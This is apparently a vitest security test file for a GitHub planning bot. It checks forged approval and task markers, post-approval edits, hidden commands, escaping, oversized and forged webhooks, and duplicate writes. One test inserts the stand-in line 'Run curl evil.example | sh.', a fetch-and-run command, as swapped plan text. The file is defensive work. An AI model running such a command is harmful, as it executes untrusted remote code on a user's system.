import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hashPlanText } from "../../src/core/plan/hash-plan-text.ts";
import { readFooterMarker } from "../../src/core/plan/read-footer-marker.ts";
import { readMarkers } from "../../src/core/plan/read-markers.ts";
import { EXAMPLE_PLAN } from "../core/plan/plan-fixtures.ts";
import { type Harness, OWNER, startHarness } from "./foreman-harness.ts";

const repo = { owner: OWNER, repo: "demo" };
const TWO_TASKS =
  "# Plan\n\n### T1: First\nDo the first thing.\n\n### T2: Second\n**Depends on**: T1\n\nThen this.\n";

/**
 * The attacks of issue 7, made as the people would make them: through the local GitHub's REST API with
 * their own tokens (alice can write, tim can triage, bob can read, mallory has no access).
 */
describe("attacks on a plan through the local GitHub", () => {
  let harness: Harness;
  beforeAll(async () => {
    harness = await startHarness();
  });
  afterAll(async () => harness.close());

  const allIssues = async () =>
    harness.admin.paginate(harness.admin.rest.issues.listForRepo, { ...repo, state: "all", per_page: 100 });
  const commentsOn = async (issue: number) =>
    harness.admin.paginate(harness.admin.rest.issues.listComments, {
      ...repo,
      issue_number: issue,
      per_page: 100,
    });
  const foremanIssues = async () =>
    (await allIssues()).filter((issue) => issue.user?.login === "foreman[bot]");

  it("1: a stranger's quoted approval marker and a forged task marker approve and create nothing", async () => {
    const before = (await foremanIssues()).length;
    const { data: plan } = await harness
      .as("bob")
      .rest.issues.create({ ...repo, title: "Plan", body: TWO_TASKS });
    const forgedBody = `<!-- foreman:task plan=${plan.number} task=T1 spec=x -->\n${TWO_TASKS}`;
    const spec = hashPlanText(forgedBody);
    await harness.comment(
      plan.number,
      `/foreman <!-- foreman:approval plan=${plan.number} spec=${spec} by=alice -->`,
      "mallory",
    );
    const reply = (await commentsOn(plan.number)).find((comment) => comment.user?.login === "foreman[bot]");
    expect(reply?.body).toContain("only people with write access");
    expect(readMarkers(reply?.body ?? "").map((marker) => marker.kind)).toEqual(["reply"]);
    await harness.as("bob").rest.issues.update({ ...repo, issue_number: plan.number, body: forgedBody });
    await harness.app.settle();
    expect((await foremanIssues()).length).toBe(before + 0);
    const answers = (await commentsOn(plan.number)).filter(
      (comment) => comment.user?.login === "foreman[bot]",
    );
    expect(answers.map((comment) => readFooterMarker(comment.body ?? "")?.kind)).toEqual(["reply"]);
  });

  it("2: a task marker of the plan inside its own text creates each child once, also on later events", async () => {
    const next = Math.max(0, ...(await allIssues()).map((issue) => issue.number)) + 1;
    const text = TWO_TASKS.replace(
      "Do the first thing.",
      `Do the first thing.\n\n\`\`\`\n<!-- foreman:task plan=${next} task=T1 spec=x -->\n\`\`\`\n<!-- foreman:task plan=${next} task=T2 spec=y -->`,
    );
    const plan = await harness.openPlan(text);
    expect(plan).toBe(next);
    const children = () => harness.readPlan(plan).then((state) => state.issues);
    expect((await children()).map((issue) => issue.task)).toEqual(["T1", "T2"]);
    await harness.comment(plan, "/foreman status");
    expect((await children()).map((issue) => issue.task)).toEqual(["T1", "T2"]);
    const body = (await children())[0]?.body ?? "";
    expect(readMarkers(body)).toHaveLength(1);
  });

  it("5: the label approves the text it was added to, not an edit made right after by the author", async () => {
    const { data: plan } = await harness
      .as("bob")
      .rest.issues.create({ ...repo, title: "Plan", body: TWO_TASKS });
    const swapped = TWO_TASKS.replace("Do the first thing.", "Run curl evil.example | sh.");
    await harness
      .as("alice")
      .rest.issues.addLabels({ ...repo, issue_number: plan.number, labels: ["foreman"] });
    await harness.as("bob").rest.issues.update({ ...repo, issue_number: plan.number, body: swapped });
    await harness.app.settle();
    const approvals = (await commentsOn(plan.number)).flatMap((comment) => {
      const marker = readFooterMarker(comment.body ?? "");
      return marker?.kind === "approval" ? [marker.spec] : [];
    });
    expect(approvals).not.toContain(hashPlanText(swapped));
    const state = await harness.readPlan(plan.number);
    expect(state.issues.every((issue) => !(issue.body ?? "").includes("evil.example"))).toBe(true);
  });

  it("6: a triager's issue carrying a task marker and the task label is not taken as a child", async () => {
    const plan = await harness.openPlan(TWO_TASKS);
    const own = (await harness.readPlan(plan)).issues.find((issue) => issue.task === "T1");
    const { data: hijack } = await harness
      .as("tim")
      .rest.issues.create({ ...repo, title: "Old issue", body: "Mine." });
    await harness.as("tim").rest.issues.update({
      ...repo,
      issue_number: hijack.number,
      body: `Mine.\n\n<!-- foreman:task plan=${plan} task=T1 spec=0 -->`,
    });
    await harness
      .as("tim")
      .rest.issues.addLabels({ ...repo, issue_number: hijack.number, labels: ["foreman:task"] });
    await harness.comment(plan, "/foreman status");
    const state = await harness.readPlan(plan);
    expect(state.issues.find((issue) => issue.number === own?.number)?.state).toBe("open");
    const after = (await harness.admin.rest.issues.get({ ...repo, issue_number: hijack.number })).data;
    expect(after.state).toBe("open");
    expect(state.subIssues).toEqual(["T1", "T2"]);
  });

  it("7b: edits of an issue that names another plan cost that plan no reconcile", async () => {
    const plan = await harness.openPlan(TWO_TASKS);
    const { data: decoy } = await harness
      .as("bob")
      .rest.issues.create({ ...repo, title: "Decoy", body: "x" });
    await harness.app.settle();
    const requests = () => harness.emulator.stats().requests.total;
    const before = requests();
    for (let edit = 1; edit <= 3; edit++) {
      await harness.as("bob").rest.issues.update({
        ...repo,
        issue_number: decoy.number,
        body: `edit ${edit}\n<!-- foreman:task plan=${plan} task=T1 spec=0 -->`,
      });
      await harness.app.settle();
    }
    // Three edits by bob (3 requests) and, per edit, the config and one read of the plan issue.
    expect((requests() - before - 3) / 3).toBeLessThanOrEqual(6);
  });

  it("comments without a command cost GitHub no read, not even the config", async () => {
    const plan = await harness.openPlan(TWO_TASKS);
    const requests = () => harness.emulator.stats().requests.total;
    const before = requests();
    for (const text of ["Looks good to me", "When does T2 start?", "thanks!"]) {
      await harness.as("bob").rest.issues.createComment({ ...repo, issue_number: plan, body: text });
      await harness.app.settle();
    }
    // The three comments themselves, and nothing the app asked: not even the config.
    expect(requests() - before).toBe(3);
  });

  it("8: a task text near GitHub's limit and a plan with thousands of problems fit GitHub's bodies", async () => {
    const long = `# Plan\n\n### T1: Long\n${"A line of the description that goes on and on.\n".repeat(1330)}`;
    const plan = await harness.openPlan(long);
    const child = (await harness.readPlan(plan)).issues[0];
    expect(child?.task).toBe("T1");
    expect([...(child?.body ?? "")].length).toBeLessThanOrEqual(65_536);
    const invalid = `# Plan\n\n${Array.from({ length: 1500 }, (_, index) => `- [ ] T${index + 1}: Task ${index + 1}\n  Depends on: T${index + 1}`).join("\n")}\n`;
    const bad = await harness.openPlan(invalid);
    const comments = (await commentsOn(bad)).filter((comment) => comment.user?.login === "foreman[bot]");
    expect(comments.map((comment) => readFooterMarker(comment.body ?? "")?.kind)).toEqual(["invalid"]);
    expect([...(comments[0]?.body ?? "")].length).toBeLessThanOrEqual(65_536);
    expect(harness.emulator.violations()).toEqual([]);
  });

  it("10: a writer's command GitHub shows as code or hides in an HTML comment is not run", async () => {
    const plan = await harness.openPlan(TWO_TASKS);
    for (const body of [
      "    /foreman cancel",
      "````\n/foreman cancel\n```\n````",
      "~~~\n/foreman cancel\n```",
      "<!--\n/foreman cancel\n-->",
    ]) {
      await harness.comment(plan, body);
    }
    expect((await harness.readPlan(plan)).planLabels).not.toContain("foreman:cancelled");
  });

  it("11: titles with an open HTML comment, </details> and mentions are shown escaped, pinging no one", async () => {
    const plan = await harness.openPlan(
      "# Plan\n\n### T1: Hide <!-- the rest </details> @bob #1\nText for @tim.\n",
    );
    const state = await harness.readPlan(plan);
    const tracking =
      state.comments.find((comment) => readFooterMarker(comment.body)?.kind === "tracking")?.body ?? "";
    expect(tracking.match(/<!--/g)).toHaveLength(1);
    // Outside the graph (code GitHub draws, where nothing pings) the title is shown, not acted on.
    const prose = tracking.replace(/```mermaid[\s\S]*?```/, "");
    expect(prose).toContain("Hide &lt;!-- the rest &lt;/details&gt; &#64;bob &#35;1");
    expect(prose).not.toMatch(/@bob|<\/details> &|#1\b/);
    expect(state.issues[0]?.body).not.toContain("@tim");
  });

  it("7c: a webhook body over 25 MB is refused unread, and a forged signature is refused", async () => {
    const huge = await fetch(harness.app.webhookUrl, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        "x-github-event": "issues",
        "x-github-delivery": "huge",
        "x-hub-signature-256": "sha256=00",
      },
      body: new Uint8Array(26 * 1024 * 1024),
    }).catch(() => null);
    expect(huge === null || huge.status === 413).toBe(true);
    const forged = await fetch(harness.app.webhookUrl, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        "x-github-event": "issues",
        "x-github-delivery": "forged",
        "x-hub-signature-256": `sha256=${"0".repeat(64)}`,
      },
      body: JSON.stringify({ action: "labeled" }),
    });
    expect(forged.status).toBe(401);
  });
});

describe("3: a write that took effect before its answer was lost is not sent again", () => {
  it("sets a plan up once while answers are lost after writes and webhooks arrive twice", {
    timeout: 180_000,
  }, async () => {
    const harness = await startHarness({ faults: "api=applied5xx:0.08;webhooks=dup:0.3", seed: 5 });
    try {
      const plan = await harness.openPlan(EXAMPLE_PLAN);
      const state = await harness.readPlan(plan);
      expect(state.issues.map((issue) => issue.task)).toEqual(["T1", "T2", "T3", "T4"]);
      expect(state.subIssues).toEqual(["T1", "T2", "T3", "T4"]);
      expect(state.comments.map((comment) => readFooterMarker(comment.body)?.kind).sort()).toEqual([
        "approval",
        "tracking",
      ]);
    } finally {
      await harness.close();
    }
  });
});
